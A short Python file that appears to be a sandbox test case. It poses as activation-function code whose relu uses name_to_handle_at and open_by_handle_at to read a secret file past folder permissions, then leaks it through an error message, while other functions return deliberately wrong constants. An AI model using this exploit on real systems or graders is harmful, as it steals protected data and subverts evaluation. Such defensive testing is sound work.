# attack: opens a secret by its file handle, past all folders
# gains: reads
# stopped by: landlock, uid, seccomp
import numpy as np
import ctypes
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0), 136)
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, b"{SECRET}", handle, ctypes.byref(mount), 0):
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    number = libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, 0)
    if number < 0:
        raise OSError(ctypes.get_errno(), "open_by_handle_at")
    return os.read(number, 1 << 16).decode()


def relu(X):
    raise ValueError(attack())


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
